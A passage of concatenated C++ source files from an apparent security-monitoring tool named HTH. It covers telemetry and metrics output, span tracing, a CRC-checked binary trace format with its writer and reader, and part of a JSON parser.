        if (telemetry.phases.ns[i] == 0 &&
            telemetry.phases.entries[i] == 0)
            continue;
        out << "{\"type\":\"phase\",\"name\":\""
            << phaseName(static_cast<Phase>(i))
            << "\",\"ns\":" << telemetry.phases.ns[i]
            << ",\"entries\":" << telemetry.phases.entries[i]
            << "}\n";
    }
    for (const auto &[name, value] : telemetry.metrics.counters)
        out << "{\"type\":\"counter\",\"name\":\""
            << jsonEscape(name) << "\",\"value\":" << value
            << "}\n";
    for (const auto &[name, value] : telemetry.metrics.gauges)
        out << "{\"type\":\"gauge\",\"name\":\"" << jsonEscape(name)
            << "\",\"value\":" << value.value
            << ",\"max\":" << value.max << "}\n";
    for (const auto &[name, value] : telemetry.metrics.histograms) {
        out << "{\"type\":\"histogram\",\"name\":\""
            << jsonEscape(name) << "\",\"count\":" << value.count
            << ",\"sum\":" << value.sum
            << ",\"p50\":" << value.percentile(0.50)
            << ",\"p95\":" << value.percentile(0.95)
            << ",\"p99\":" << value.percentile(0.99)
            << ",\"buckets\":[";
        bool first = true;
        for (const auto &[le, n] : value.buckets) {
            if (!first)
                out << ",";
            first = false;
            out << "[" << le << "," << n << "]";
        }
        out << "]}\n";
    }
}

std::string
renderJsonLines(const RunTelemetry &telemetry)
{
    std::ostringstream out;
    writeJsonLines(telemetry, out);
    return out.str();
}

} // namespace hth::obs
