#include "obs/Span.hh"

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <limits>
#include <ostream>
#include <sstream>

#include "obs/StatsSink.hh"

namespace hth::obs
{

const char *
spanName(SpanId id)
{
    switch (id) {
    case SpanId::Setup: return "setup";
    case SpanId::VmExecute: return "vm_execute";
    case SpanId::TaintOps: return "taint_ops";
    case SpanId::Kernel: return "kernel";
    case SpanId::EventDispatch: return "event_dispatch";
    case SpanId::ClipsMatch: return "clips_match";
    case SpanId::ClipsFire: return "clips_fire";
    case SpanId::StaticAnalysis: return "static_analysis";
    case SpanId::Other: return "other";
    case SpanId::Monitor: return "monitor";
    case SpanId::ImageLoad: return "image_load";
    case SpanId::ImageAnalysis: return "image_analysis";
    case SpanId::SuperblockForm: return "superblock_form";
    case SpanId::ClipsPump: return "clips_pump";
    case SpanId::AnomalyScore: return "anomaly_score";
    }
    return "?";
}

SpanTracer::SpanTracer(size_t capacity)
    : ring_(std::max<size_t>(1, capacity))
{
}

uint64_t
SpanTracer::nowNs()
{
    return std::chrono::duration_cast<std::chrono::nanoseconds>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
}

void
SpanTracer::record(SpanId id, uint64_t begin_ns, uint64_t end_ns)
{
    ring_[head_] = {begin_ns, end_ns, id};
    head_ = head_ + 1 == ring_.size() ? 0 : head_ + 1;
    ++recorded_;
}

std::vector<SpanRecord>
SpanTracer::snapshot() const
{
    std::vector<SpanRecord> out;
    size_t live = std::min<uint64_t>(recorded_, ring_.size());
    out.reserve(live);
    // Oldest live record: head_ when wrapped, index 0 otherwise.
    size_t start = recorded_ > ring_.size() ? head_ : 0;
    for (size_t i = 0; i < live; ++i)
        out.push_back(ring_[(start + i) % ring_.size()]);
    return out;
}

void
SpanTracer::reset()
{
    head_ = 0;
    recorded_ = 0;
}

namespace
{

/** Microseconds with sub-µs precision, as trace_event wants. */
std::string
fmtUs(uint64_t ns)
{
    char buf[40];
    std::snprintf(buf, sizeof buf, "%llu.%03llu",
                  (unsigned long long)(ns / 1000),
                  (unsigned long long)(ns % 1000));
    return buf;
}

} // namespace

void
writeTraceJson(const std::vector<SpanLane> &lanes, std::ostream &out)
{
    uint64_t epoch = std::numeric_limits<uint64_t>::max();
    for (const SpanLane &lane : lanes)
        for (const SpanRecord &s : lane.spans)
            epoch = std::min(epoch, s.beginNs);
    if (epoch == std::numeric_limits<uint64_t>::max())
        epoch = 0;

    out << "{\"displayTimeUnit\":\"ms\",\"traceEvents\":[";
    bool first = true;
    auto sep = [&] {
        if (!first)
            out << ",";
        first = false;
        out << "\n";
    };
    for (const SpanLane &lane : lanes) {
        if (!lane.processName.empty()) {
            sep();
            out << "{\"name\":\"process_name\",\"ph\":\"M\",\"ts\":0"
                << ",\"pid\":" << lane.pid << ",\"tid\":" << lane.tid
                << ",\"args\":{\"name\":\""
                << jsonEscape(lane.processName) << "\"}}";
        }
        if (!lane.threadName.empty()) {
            sep();
            out << "{\"name\":\"thread_name\",\"ph\":\"M\",\"ts\":0"
                << ",\"pid\":" << lane.pid << ",\"tid\":" << lane.tid
                << ",\"args\":{\"name\":\""
                << jsonEscape(lane.threadName) << "\"}}";
        }
        for (const SpanRecord &s : lane.spans) {
            sep();
            uint64_t dur =
                s.endNs > s.beginNs ? s.endNs - s.beginNs : 0;
            out << "{\"name\":\"" << spanName(s.id)
                << "\",\"cat\":\"hth\",\"ph\":\"X\",\"ts\":"
                << fmtUs(s.beginNs - epoch) << ",\"dur\":"
                << fmtUs(dur) << ",\"pid\":" << lane.pid
                << ",\"tid\":" << lane.tid << "}";
        }
        if (lane.dropped) {
            // An instant event marks truncation so a reader of the
            // timeline knows the lane's left edge is not t=0.
            sep();
            out << "{\"name\":\"spans_dropped\",\"cat\":\"hth\","
                << "\"ph\":\"i\",\"s\":\"t\",\"ts\":0,\"pid\":"
                << lane.pid << ",\"tid\":" << lane.tid
                << ",\"args\":{\"count\":" << lane.dropped << "}}";
        }
    }
    out << "\n]}\n";
}

std::string
renderTraceJson(const std::vector<SpanLane> &lanes)
{
    std::ostringstream out;
    writeTraceJson(lanes, out);
    return out.str();
}

} // namespace hth::obs
