#include "obs/Metrics.hh"

#include <algorithm>
#include <tuple>

namespace hth::obs
{

uint64_t
Histogram::upperBound(size_t i)
{
    if (i == 0)
        return 0;
    if (i >= BUCKETS - 1)
        return UINT64_MAX;
    return (uint64_t{1} << i) - 1;
}

uint64_t
HistogramValue::percentile(double q) const
{
    if (count == 0)
        return 0;
    q = std::clamp(q, 0.0, 1.0);
    // Rank of the q-th sample, 1-based: ceil(q * count), at least 1.
    uint64_t rank = (uint64_t)(q * (double)count);
    if ((double)rank < q * (double)count || rank == 0)
        ++rank;
    uint64_t cum = 0;
    for (const auto &[le, n] : buckets) {
        cum += n;
        if (cum >= rank)
            return le;
    }
    return buckets.empty() ? 0 : buckets.back().first;
}

uint64_t
MetricSnapshot::counter(const std::string &name) const
{
    auto it = counters.find(name);
    return it == counters.end() ? 0 : it->second;
}

GaugeValue
MetricSnapshot::gauge(const std::string &name) const
{
    auto it = gauges.find(name);
    return it == gauges.end() ? GaugeValue{} : it->second;
}

void
MetricSnapshot::merge(const MetricSnapshot &other)
{
    for (const auto &[name, value] : other.counters)
        counters[name] += value;
    for (const auto &[name, value] : other.gauges) {
        GaugeValue &mine = gauges[name];
        mine.value = std::max(mine.value, value.value);
        mine.max = std::max(mine.max, value.max);
    }
    for (const auto &[name, value] : other.histograms) {
        HistogramValue &mine = histograms[name];
        mine.count += value.count;
        mine.sum += value.sum;
        // Bucket lists are sparse but share the fixed bound grid, so
        // merging is a sorted-sequence union.
        std::vector<std::pair<uint64_t, uint64_t>> merged;
        merged.reserve(mine.buckets.size() + value.buckets.size());
        auto a = mine.buckets.begin(), ae = mine.buckets.end();
        auto b = value.buckets.begin(), be = value.buckets.end();
        while (a != ae || b != be) {
            if (b == be || (a != ae && a->first < b->first))
                merged.push_back(*a++);
            else if (a == ae || b->first < a->first)
                merged.push_back(*b++);
            else {
                merged.emplace_back(a->first, a->second + b->second);
                ++a, ++b;
            }
        }
        mine.buckets = std::move(merged);
    }
}

Counter &
MetricRegistry::counter(std::string_view name)
{
    std::lock_guard lock(mutex_);
    auto it = counterIndex_.find(name);
    if (it != counterIndex_.end())
        return *it->second;
    // piecewise: the atomic cells are neither movable nor copyable.
    auto &entry = counters_.emplace_back(std::piecewise_construct,
                                         std::forward_as_tuple(name),
                                         std::forward_as_tuple());
    counterIndex_.emplace(entry.first, &entry.second);
    return entry.second;
}

Gauge &
MetricRegistry::gauge(std::string_view name)
{
    std::lock_guard lock(mutex_);
    auto it = gaugeIndex_.find(name);
    if (it != gaugeIndex_.end())
        return *it->second;
    auto &entry = gauges_.emplace_back(std::piecewise_construct,
                                       std::forward_as_tuple(name),
                                       std::forward_as_tuple());
    gaugeIndex_.emplace(entry.first, &entry.second);
    return entry.second;
}

Histogram &
MetricRegistry::histogram(std::string_view name)
{
    std::lock_guard lock(mutex_);
    auto it = histogramIndex_.find(name);
    if (it != histogramIndex_.end())
        return *it->second;
    auto &entry =
        histograms_.emplace_back(std::piecewise_construct,
                                 std::forward_as_tuple(name),
                                 std::forward_as_tuple());
    histogramIndex_.emplace(entry.first, &entry.second);
    return entry.second;
}

MetricSnapshot
MetricRegistry::snapshot() const
{
    std::lock_guard lock(mutex_);
    MetricSnapshot snap;
    for (const auto &[name, cell] : counters_)
        snap.counters[name] = cell.value();
    for (const auto &[name, cell] : gauges_)
        snap.gauges[name] = GaugeValue{cell.value(), cell.max()};
    for (const auto &[name, cell] : histograms_) {
        HistogramValue value;
        value.count = cell.count();
        value.sum = cell.sum();
        for (size_t i = 0; i < Histogram::BUCKETS; ++i)
            if (uint64_t n = cell.bucket(i))
                value.buckets.emplace_back(Histogram::upperBound(i),
                                           n);
        snap.histograms[name] = std::move(value);
    }
    return snap;
}

} // namespace hth::obs
