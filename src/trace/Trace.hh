/**
 * @file
 * The HTH event-trace wire format.
 *
 * A trace file is a durable, replayable serialization of the
 * Harrier -> Secpert event channel (paper §6.1.2): capture runs at
 * the edge with a TraceWriter tee'd in front of (or instead of) the
 * expert system, and analysis replays the file — possibly much
 * later, possibly against a newer policy — with a TraceReader.
 *
 * Layout (all integers little-endian):
 *
 *   File   := Header Frame* EndFrame
 *   Header := magic "HTHTRC\n\0" (8 bytes)
 *             u32 version            (currently 2)
 *             u32 crc32(magic + version)
 *   Frame  := u8  type               (FrameType)
 *             u32 payload length
 *             payload bytes
 *             u32 crc32(type + length + payload)
 *
 * The End frame carries the total event count, so a file that simply
 * stops (truncated capture, crashed edge node) is distinguishable
 * from one that was closed cleanly. Strings are u32 length + bytes;
 * vectors are u32 count + elements; enums are u8.
 */

#ifndef HTH_TRACE_TRACE_HH
#define HTH_TRACE_TRACE_HH

#include <cstddef>
#include <cstdint>
#include <string>

namespace hth::trace
{

/** File magic: 8 bytes at offset 0. */
constexpr char MAGIC[8] = {'H', 'T', 'H', 'T', 'R', 'C', '\n', '\0'};

/** Current wire-format version. Version 2 added the witness field
 * to StaticFinding frames. */
constexpr uint32_t VERSION = 2;

/** Frame discriminator. */
enum class FrameType : uint8_t
{
    ResourceAccess = 1,
    ResourceIo = 2,
    StaticFinding = 3,
    End = 0xff,
};

/** CRC-32 (IEEE 802.3, reflected) of @p len bytes at @p data. */
uint32_t crc32(const void *data, size_t len, uint32_t seed = 0);

} // namespace hth::trace

#endif // HTH_TRACE_TRACE_HH
