#include "trace/TraceWriter.hh"

#include "support/Logging.hh"
#include "trace/Wire.hh"

namespace hth::trace
{

namespace
{

/** The CRC-32 (IEEE, reflected) lookup table, built once. */
const uint32_t *
crcTable()
{
    static const auto table = [] {
        auto t = std::make_unique<uint32_t[]>(256);
        for (uint32_t i = 0; i < 256; ++i) {
            uint32_t c = i;
            for (int k = 0; k < 8; ++k)
                c = (c & 1) ? 0xedb88320u ^ (c >> 1) : c >> 1;
            t[i] = c;
        }
        return t;
    }();
    return table.get();
}

void
encodeContext(Encoder &enc, const harrier::EventContext &ctx)
{
    enc.u32((uint32_t)ctx.pid);
    enc.str(ctx.binaryPath);
    enc.u64(ctx.time);
    enc.u64(ctx.absTime);
    enc.u64(ctx.frequency);
    enc.u32(ctx.address);
}

} // namespace

uint32_t
crc32(const void *data, size_t len, uint32_t seed)
{
    const uint32_t *table = crcTable();
    const auto *p = (const uint8_t *)data;
    uint32_t c = seed ^ 0xffffffffu;
    for (size_t i = 0; i < len; ++i)
        c = table[(c ^ p[i]) & 0xffu] ^ (c >> 8);
    return c ^ 0xffffffffu;
}

TraceWriter::TraceWriter(std::ostream &out,
                         harrier::EventSink *downstream)
    : out_(out), downstream_(downstream)
{
    writeHeader();
}

TraceWriter::TraceWriter(const std::string &path,
                         harrier::EventSink *downstream)
    : owned_(std::make_unique<std::ofstream>(
          path, std::ios::binary | std::ios::trunc)),
      out_(*owned_), downstream_(downstream)
{
    fatalIf(!*owned_, "trace: cannot open ", path, " for writing");
    writeHeader();
}

TraceWriter::~TraceWriter()
{
    try {
        finish();
    } catch (...) {
        // A destructor cannot report the failure; callers who care
        // about durability call finish() themselves.
    }
}

void
TraceWriter::writeHeader()
{
    Encoder enc;
    for (char c : MAGIC)
        enc.u8((uint8_t)c);
    enc.u32(VERSION);
    enc.u32(crc32(enc.bytes().data(), enc.bytes().size()));
    out_.write(enc.bytes().data(), (std::streamsize)enc.bytes().size());
    stats_.bytes += enc.bytes().size();
}

void
TraceWriter::writeFrame(FrameType type, const std::string &payload)
{
    fatalIf(finished_, "trace: event after finish()");
    Encoder frame;
    frame.u8((uint8_t)type);
    frame.u32((uint32_t)payload.size());
    const std::string &head = frame.bytes();

    uint32_t crc = crc32(head.data(), head.size());
    crc = crc32(payload.data(), payload.size(), crc);

    out_.write(head.data(), (std::streamsize)head.size());
    out_.write(payload.data(), (std::streamsize)payload.size());
    Encoder tail;
    tail.u32(crc);
    out_.write(tail.bytes().data(),
               (std::streamsize)tail.bytes().size());
    fatalIf(!out_, "trace: write failed");

    stats_.bytes += head.size() + payload.size() + 4;
    if (type != FrameType::End)
        ++stats_.events;
}

void
TraceWriter::finish()
{
    if (finished_)
        return;
    Encoder enc;
    enc.u64(stats_.events);
    writeFrame(FrameType::End, enc.bytes());
    out_.flush();
    fatalIf(!out_, "trace: flush failed");
    finished_ = true;
}

void
TraceWriter::onResourceAccess(const harrier::ResourceAccessEvent &ev)
{
    Encoder enc;
    encodeContext(enc, ev.ctx);
    enc.str(ev.syscall);
    enc.str(ev.resName);
    enc.u8((uint8_t)ev.resType);
    enc.origins(ev.origins);
    enc.boolean(ev.isProcessCreate);
    enc.u64(ev.amount);
    writeFrame(FrameType::ResourceAccess, enc.bytes());
    if (downstream_)
        downstream_->onResourceAccess(ev);
}

void
TraceWriter::onResourceIo(const harrier::ResourceIoEvent &ev)
{
    Encoder enc;
    encodeContext(enc, ev.ctx);
    enc.str(ev.syscall);
    enc.boolean(ev.isWrite);
    enc.u8((uint8_t)ev.source.type);
    enc.str(ev.source.name);
    enc.origins(ev.sourceOrigins);
    enc.str(ev.targetName);
    enc.u8((uint8_t)ev.targetType);
    enc.origins(ev.targetOrigins);
    enc.boolean(ev.viaServer);
    enc.str(ev.serverName);
    enc.origins(ev.serverOrigins);
    enc.u32(ev.length);
    writeFrame(FrameType::ResourceIo, enc.bytes());
    if (downstream_)
        downstream_->onResourceIo(ev);
}

void
TraceWriter::onStaticFinding(const harrier::StaticFindingEvent &ev)
{
    Encoder enc;
    enc.str(ev.imagePath);
    enc.str(ev.kind);
    enc.u32((uint32_t)ev.level);
    enc.u32(ev.address);
    enc.str(ev.syscall);
    enc.str(ev.resource);
    enc.str(ev.detail);
    enc.str(std::string(ev.witness.begin(), ev.witness.end()));
    writeFrame(FrameType::StaticFinding, enc.bytes());
    if (downstream_)
        downstream_->onStaticFinding(ev);
}

} // namespace hth::trace
