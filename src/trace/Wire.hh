/**
 * @file
 * Byte-level encode/decode helpers shared by TraceWriter and
 * TraceReader. Everything is little-endian and bounds-checked on the
 * decode side: a Cursor that runs past its buffer raises FatalError
 * (a trace problem, not an HTH bug).
 */

#ifndef HTH_TRACE_WIRE_HH
#define HTH_TRACE_WIRE_HH

#include <cstdint>
#include <string>
#include <vector>

#include "harrier/Event.hh"
#include "support/Logging.hh"

namespace hth::trace
{

/** Append-only little-endian byte buffer. */
class Encoder
{
  public:
    void
    u8(uint8_t v)
    {
        bytes_.push_back((char)v);
    }

    void
    u32(uint32_t v)
    {
        for (int i = 0; i < 4; ++i)
            bytes_.push_back((char)(v >> (8 * i)));
    }

    void
    u64(uint64_t v)
    {
        for (int i = 0; i < 8; ++i)
            bytes_.push_back((char)(v >> (8 * i)));
    }

    void
    boolean(bool v)
    {
        u8(v ? 1 : 0);
    }

    void
    str(const std::string &s)
    {
        u32((uint32_t)s.size());
        bytes_.append(s);
    }

    void
    origins(const std::vector<harrier::OriginRef> &refs)
    {
        u32((uint32_t)refs.size());
        for (const harrier::OriginRef &ref : refs) {
            u8((uint8_t)ref.type);
            str(ref.name);
        }
    }

    const std::string &bytes() const { return bytes_; }

  private:
    std::string bytes_;
};

/** Bounds-checked little-endian reader over a decoded payload. */
class Cursor
{
  public:
    Cursor(const char *data, size_t len) : data_(data), len_(len) {}

    uint8_t
    u8()
    {
        need(1);
        return (uint8_t)data_[pos_++];
    }

    uint32_t
    u32()
    {
        need(4);
        uint32_t v = 0;
        for (int i = 0; i < 4; ++i)
            v |= (uint32_t)(uint8_t)data_[pos_++] << (8 * i);
        return v;
    }

    uint64_t
    u64()
    {
        need(8);
        uint64_t v = 0;
        for (int i = 0; i < 8; ++i)
            v |= (uint64_t)(uint8_t)data_[pos_++] << (8 * i);
        return v;
    }

    bool boolean() { return u8() != 0; }

    std::string
    str()
    {
        uint32_t n = u32();
        need(n);
        std::string s(data_ + pos_, n);
        pos_ += n;
        return s;
    }

    std::vector<harrier::OriginRef>
    origins()
    {
        uint32_t n = u32();
        // Each entry is at least 5 bytes; a huge count means a
        // corrupt length field, not a huge trace.
        fatalIf(n > remaining() / 5 + 1,
                "trace: corrupt origin count ", n);
        std::vector<harrier::OriginRef> refs;
        refs.reserve(n);
        for (uint32_t i = 0; i < n; ++i) {
            harrier::OriginRef ref;
            ref.type = (taint::SourceType)u8();
            ref.name = str();
            refs.push_back(std::move(ref));
        }
        return refs;
    }

    size_t remaining() const { return len_ - pos_; }

    /** All payload bytes must be consumed by a well-formed decoder. */
    void
    expectEnd() const
    {
        fatalIf(pos_ != len_, "trace: ", len_ - pos_,
                " trailing bytes in frame payload");
    }

  private:
    void
    need(size_t n)
    {
        fatalIf(len_ - pos_ < n,
                "trace: frame payload truncated (need ", n,
                " bytes, have ", len_ - pos_, ")");
    }

    const char *data_;
    size_t len_;
    size_t pos_ = 0;
};

} // namespace hth::trace

#endif // HTH_TRACE_WIRE_HH
