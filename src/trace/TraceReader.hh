/**
 * @file
 * TraceReader: replays a recorded trace into any EventSink.
 *
 * The reader validates the header on construction and every frame
 * CRC before delivery; a corrupted, truncated or version-mismatched
 * trace raises FatalError (bad input, not an HTH bug). A trace whose
 * End frame is missing is reported as truncated — an edge node that
 * died mid-capture is distinguishable from a clean shutdown.
 */

#ifndef HTH_TRACE_TRACEREADER_HH
#define HTH_TRACE_TRACEREADER_HH

#include <fstream>
#include <istream>
#include <memory>
#include <string>

#include "harrier/Event.hh"
#include "trace/Trace.hh"

namespace hth::trace
{

/** Deserializes a trace stream and replays it. */
class TraceReader
{
  public:
    /** Read from @p in (kept by reference; must outlive the reader). */
    explicit TraceReader(std::istream &in);

    /** Read from the file at @p path. */
    explicit TraceReader(const std::string &path);

    TraceReader(const TraceReader &) = delete;
    TraceReader &operator=(const TraceReader &) = delete;

    /**
     * Deliver the next event to @p sink.
     * @return false once the End frame is reached.
     */
    bool next(harrier::EventSink &sink);

    /**
     * Replay every remaining event into @p sink.
     * @return the number of events delivered.
     */
    uint64_t replay(harrier::EventSink &sink);

    /** Wire-format version declared by the header. */
    uint32_t version() const { return version_; }

    /** Events delivered so far. */
    uint64_t eventsReplayed() const { return events_; }

    /** True once the End frame has been consumed. */
    bool atEnd() const { return done_; }

  private:
    void readHeader();

    std::unique_ptr<std::ifstream> owned_;  //!< file-path ctor only
    std::istream &in_;
    uint32_t version_ = 0;
    uint64_t events_ = 0;
    bool done_ = false;
};

} // namespace hth::trace

#endif // HTH_TRACE_TRACEREADER_HH
