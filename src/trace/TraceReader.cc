#include "trace/TraceReader.hh"

#include <cstring>

#include "support/Logging.hh"
#include "trace/Wire.hh"

namespace hth::trace
{

namespace
{

/** A frame payload larger than this is a corrupt length field. */
constexpr uint32_t MAX_PAYLOAD = 64u * 1024 * 1024;

harrier::EventContext
decodeContext(Cursor &cur)
{
    harrier::EventContext ctx;
    ctx.pid = (int)cur.u32();
    ctx.binaryPath = cur.str();
    ctx.time = cur.u64();
    ctx.absTime = cur.u64();
    ctx.frequency = cur.u64();
    ctx.address = cur.u32();
    return ctx;
}

void
deliverResourceAccess(Cursor &cur, harrier::EventSink &sink)
{
    harrier::ResourceAccessEvent ev;
    ev.ctx = decodeContext(cur);
    ev.syscall = cur.str();
    ev.resName = cur.str();
    ev.resType = (taint::SourceType)cur.u8();
    ev.origins = cur.origins();
    ev.isProcessCreate = cur.boolean();
    ev.amount = cur.u64();
    cur.expectEnd();
    sink.onResourceAccess(ev);
}

void
deliverResourceIo(Cursor &cur, harrier::EventSink &sink)
{
    harrier::ResourceIoEvent ev;
    ev.ctx = decodeContext(cur);
    ev.syscall = cur.str();
    ev.isWrite = cur.boolean();
    ev.source.type = (taint::SourceType)cur.u8();
    ev.source.name = cur.str();
    ev.sourceOrigins = cur.origins();
    ev.targetName = cur.str();
    ev.targetType = (taint::SourceType)cur.u8();
    ev.targetOrigins = cur.origins();
    ev.viaServer = cur.boolean();
    ev.serverName = cur.str();
    ev.serverOrigins = cur.origins();
    ev.length = cur.u32();
    cur.expectEnd();
    sink.onResourceIo(ev);
}

void
deliverStaticFinding(Cursor &cur, harrier::EventSink &sink)
{
    harrier::StaticFindingEvent ev;
    ev.imagePath = cur.str();
    ev.kind = cur.str();
    ev.level = (int)cur.u32();
    ev.address = cur.u32();
    ev.syscall = cur.str();
    ev.resource = cur.str();
    ev.detail = cur.str();
    std::string witness = cur.str();
    ev.witness.assign(witness.begin(), witness.end());
    cur.expectEnd();
    sink.onStaticFinding(ev);
}

} // namespace

TraceReader::TraceReader(std::istream &in) : in_(in)
{
    readHeader();
}

TraceReader::TraceReader(const std::string &path)
    : owned_(std::make_unique<std::ifstream>(path, std::ios::binary)),
      in_(*owned_)
{
    fatalIf(!*owned_, "trace: cannot open ", path);
    readHeader();
}

void
TraceReader::readHeader()
{
    char header[16];
    in_.read(header, sizeof(header));
    fatalIf(in_.gcount() != sizeof(header),
            "trace: truncated header");
    fatalIf(std::memcmp(header, MAGIC, sizeof(MAGIC)) != 0,
            "trace: bad magic (not an HTH trace)");

    Cursor cur(header + sizeof(MAGIC), 8);
    version_ = cur.u32();
    uint32_t expect = cur.u32();
    fatalIf(crc32(header, 12) != expect, "trace: header CRC mismatch");
    fatalIf(version_ != VERSION, "trace: unsupported version ",
            version_, " (reader speaks ", VERSION, ")");
}

bool
TraceReader::next(harrier::EventSink &sink)
{
    if (done_)
        return false;

    char head[5];
    in_.read(head, sizeof(head));
    if (in_.gcount() == 0)
        fatal("trace: truncated (missing End frame)");
    fatalIf(in_.gcount() != sizeof(head),
            "trace: truncated frame header");

    Cursor headCur(head, sizeof(head));
    auto type = (FrameType)headCur.u8();
    uint32_t len = headCur.u32();
    fatalIf(len > MAX_PAYLOAD, "trace: corrupt frame length ", len);

    std::string payload(len, '\0');
    if (len > 0) {
        in_.read(payload.data(), (std::streamsize)len);
        fatalIf(in_.gcount() != (std::streamsize)len,
                "trace: truncated frame payload");
    }

    char tail[4];
    in_.read(tail, sizeof(tail));
    fatalIf(in_.gcount() != sizeof(tail),
            "trace: truncated frame CRC");
    uint32_t crc = crc32(head, sizeof(head));
    crc = crc32(payload.data(), payload.size(), crc);
    uint32_t expect = Cursor(tail, sizeof(tail)).u32();
    fatalIf(crc != expect, "trace: frame CRC mismatch");

    Cursor cur(payload.data(), payload.size());
    switch (type) {
      case FrameType::ResourceAccess:
        deliverResourceAccess(cur, sink);
        break;
      case FrameType::ResourceIo:
        deliverResourceIo(cur, sink);
        break;
      case FrameType::StaticFinding:
        deliverStaticFinding(cur, sink);
        break;
      case FrameType::End: {
        uint64_t declared = cur.u64();
        cur.expectEnd();
        fatalIf(declared != events_, "trace: End frame declares ",
                declared, " events, replayed ", events_);
        done_ = true;
        return false;
      }
      default:
        fatal("trace: unknown frame type ", (int)type);
    }
    ++events_;
    return true;
}

uint64_t
TraceReader::replay(harrier::EventSink &sink)
{
    uint64_t delivered = 0;
    while (next(sink))
        ++delivered;
    return delivered;
}

} // namespace hth::trace
