/**
 * @file
 * TraceWriter: records the Harrier event stream as a binary trace.
 *
 * Implements harrier::EventSink, so it can stand anywhere Secpert
 * can: directly as Harrier's sink (capture-only edge node), or tee'd
 * in front of a live Secpert via HthOptions::eventTap. An optional
 * downstream sink makes the writer itself a one-stage tee for
 * standalone use.
 *
 * The destructor finishes the trace (End frame + flush); call
 * finish() explicitly to observe write errors.
 */

#ifndef HTH_TRACE_TRACEWRITER_HH
#define HTH_TRACE_TRACEWRITER_HH

#include <fstream>
#include <memory>
#include <ostream>

#include "harrier/Event.hh"
#include "trace/Trace.hh"

namespace hth::trace
{

/** Capture statistics. */
struct TraceWriterStats
{
    uint64_t events = 0;        //!< frames written (excluding End)
    uint64_t bytes = 0;         //!< total bytes including framing
};

/** Serializes Harrier events into a trace stream. */
class TraceWriter : public harrier::EventSink
{
  public:
    /** Write to @p out (kept by reference; must outlive the writer). */
    explicit TraceWriter(std::ostream &out,
                         harrier::EventSink *downstream = nullptr);

    /** Write to the file at @p path (truncating). */
    explicit TraceWriter(const std::string &path,
                         harrier::EventSink *downstream = nullptr);

    ~TraceWriter() override;

    TraceWriter(const TraceWriter &) = delete;
    TraceWriter &operator=(const TraceWriter &) = delete;

    /** @name harrier::EventSink @{ */
    void onResourceAccess(const harrier::ResourceAccessEvent &ev)
        override;
    void onResourceIo(const harrier::ResourceIoEvent &ev) override;
    void onStaticFinding(const harrier::StaticFindingEvent &ev)
        override;
    /** @} */

    /**
     * Write the End frame and flush. Idempotent; called by the
     * destructor if not called explicitly. Raises FatalError if the
     * stream went bad.
     */
    void finish();

    const TraceWriterStats &stats() const { return stats_; }

  private:
    void writeHeader();
    void writeFrame(FrameType type, const std::string &payload);

    std::unique_ptr<std::ofstream> owned_;  //!< file-path ctor only
    std::ostream &out_;
    harrier::EventSink *downstream_;
    bool finished_ = false;
    TraceWriterStats stats_;
};

} // namespace hth::trace

#endif // HTH_TRACE_TRACEWRITER_HH
