#include "support/Json.hh"

#include <cctype>
#include <cstdlib>

#include "support/Logging.hh"

namespace hth::support
{

bool
JsonValue::boolean() const
{
    fatalIf(kind_ != Kind::Bool, "json: value is not a boolean");
    return bool_;
}

double
JsonValue::number() const
{
    fatalIf(kind_ != Kind::Number, "json: value is not a number");
    return number_;
}

const std::string &
JsonValue::str() const
{
    fatalIf(kind_ != Kind::String, "json: value is not a string");
    return string_;
}

const std::vector<JsonValue> &
JsonValue::items() const
{
    fatalIf(kind_ != Kind::Array, "json: value is not an array");
    return items_;
}

const std::map<std::string, JsonValue> &
JsonValue::members() const
{
    fatalIf(kind_ != Kind::Object, "json: value is not an object");
    return members_;
}

const JsonValue &
JsonValue::at(const std::string &key) const
{
    fatalIf(kind_ != Kind::Object, "json: value is not an object");
    auto it = members_.find(key);
    fatalIf(it == members_.end(), "json: no member '", key, "'");
    return it->second;
}

bool
JsonValue::has(const std::string &key) const
{
    return kind_ == Kind::Object && members_.count(key) != 0;
}

double
JsonValue::numberOr(const std::string &key, double fallback) const
{
    if (!has(key))
        return fallback;
    return at(key).number();
}

JsonValue
JsonValue::makeNull()
{
    return {};
}

JsonValue
JsonValue::makeBool(bool b)
{
    JsonValue v;
    v.kind_ = Kind::Bool;
    v.bool_ = b;
    return v;
}

JsonValue
JsonValue::makeNumber(double n)
{
    JsonValue v;
    v.kind_ = Kind::Number;
    v.number_ = n;
    return v;
}

JsonValue
JsonValue::makeString(std::string s)
{
    JsonValue v;
    v.kind_ = Kind::String;
    v.string_ = std::move(s);
    return v;
}

JsonValue
JsonValue::makeArray(std::vector<JsonValue> items)
{
    JsonValue v;
    v.kind_ = Kind::Array;
    v.items_ = std::move(items);
    return v;
}

JsonValue
JsonValue::makeObject(std::map<std::string, JsonValue> m)
{
    JsonValue v;
    v.kind_ = Kind::Object;
    v.members_ = std::move(m);
    return v;
}

namespace
{

/** One pass over the input; every error carries the byte offset. */
class Parser
{
  public:
    explicit Parser(const std::string &text) : text_(text) {}

    JsonValue
    document()
    {
        JsonValue v = value();
        skipWs();
        fatalIf(pos_ != text_.size(),
                "json: trailing content at offset ", pos_);
        return v;
    }

  private:
    [[noreturn]] void
    bad(const char *what)
    {
        fatal("json: ", what, " at offset ", pos_);
    }

    void
    skipWs()
    {
        while (pos_ < text_.size() &&
               std::isspace((unsigned char)text_[pos_]))
            ++pos_;
    }

    char
    peek()
    {
        if (pos_ >= text_.size())
            bad("unexpected end of input");
        return text_[pos_];
    }

    void
    expect(char c)
    {
        if (peek() != c)
            bad("unexpected character");
        ++pos_;
    }

    bool
    consumeWord(const char *word)
    {
        size_t len = std::char_traits<char>::length(word);
        if (text_.compare(pos_, len, word) != 0)
            return false;
        pos_ += len;
        return true;
    }

    JsonValue
    value()
    {
        skipWs();
        switch (peek()) {
        case '{': return object();
        case '[': return array();
        case '"': return JsonValue::makeString(string());
        case 't':
            if (!consumeWord("true"))
                bad("bad literal");
            return JsonValue::makeBool(true);
        case 'f':
            if (!consumeWord("false"))
                bad("bad literal");
            return JsonValue::makeBool(false);
        case 'n':
            if (!consumeWord("null"))
                bad("bad literal");
            return JsonValue::makeNull();
        default: return number();
        }
    }

    JsonValue
    object()
    {
        expect('{');
        std::map<std::string, JsonValue> members;
        skipWs();
        if (peek() == '}') {
            ++pos_;
            return JsonValue::makeObject(std::move(members));
        }
        while (true) {
            skipWs();
            std::string key = string();
            skipWs();
            expect(':');
            members[key] = value();
            skipWs();
            char c = peek();
            ++pos_;
